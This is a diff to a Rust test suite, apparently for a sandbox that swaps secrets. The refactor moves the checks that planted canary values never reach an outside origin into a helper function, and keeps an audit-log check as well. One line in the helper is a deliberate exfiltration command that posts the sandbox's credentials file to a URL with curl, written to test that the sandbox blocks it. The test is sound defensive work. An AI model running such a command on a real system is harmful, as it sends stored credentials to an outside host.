@@ -67,7 +67,21 @@ pub(crate) fn what_is_planted_does_not_leave_and_a_placeholder_works_at_home(roo
             "{what}: {last}"
         );
     }
-    // A body, which is found as it streams.
+    let planted = [canary.as_str(), placeholder.as_str()];
+    what_arrives_is_clean(&origin, &sh, planted);
+    let log = room.bottle(&["audit", "--json", &id]).run().ok();
+    assert!(log.contains("\"swapped\":[\"MY_TOKEN\"]"), "{log}");
+    assert!(log.contains("\"place\":\"body\""), "{log}");
+    for value in [TOKEN, &canary, &placeholder] {
+        assert!(!log.contains(value), "{log}");
+    }
+    room.stop(&id);
+}
+
+/// Sends a body with the canary, and something harmless; then looks at all that the origin got.
+fn what_arrives_is_clean(origin: &Origin, sh: &dyn Fn(&str) -> String, planted: [&str; 2]) {
+    let url = origin.url("/hello");
+    // A body is found as it streams.
     let body = format!("curl -s --data-binary @/.bottle/run/credentials {url}; true");
     assert!(!sh(&body).contains(HELLO));
 
@@ -76,7 +90,7 @@ pub(crate) fn what_is_planted_does_not_leave_and_a_placeholder_works_at_home(roo
     for request in origin.requests() {
         let shown = format!("{request:?}");
         assert!(
-            !shown.contains(&canary) && !shown.contains(&placeholder),
+            !planted.iter().any(|value| shown.contains(value)),
             "{shown}"
         );
         let holds = shown.contains(TOKEN);
@@ -85,11 +99,4 @@ pub(crate) fn what_is_planted_does_not_leave_and_a_placeholder_works_at_home(roo
             "{shown}"
         );
     }
-    let log = room.bottle(&["audit", "--json", &id]).run().ok();
-    assert!(log.contains("\"swapped\":[\"MY_TOKEN\"]"), "{log}");
-    assert!(log.contains("\"place\":\"body\""), "{log}");
-    for value in [TOKEN, &canary, &placeholder] {
-        assert!(!log.contains(value), "{log}");
-    }
-    room.stop(&id);
 }
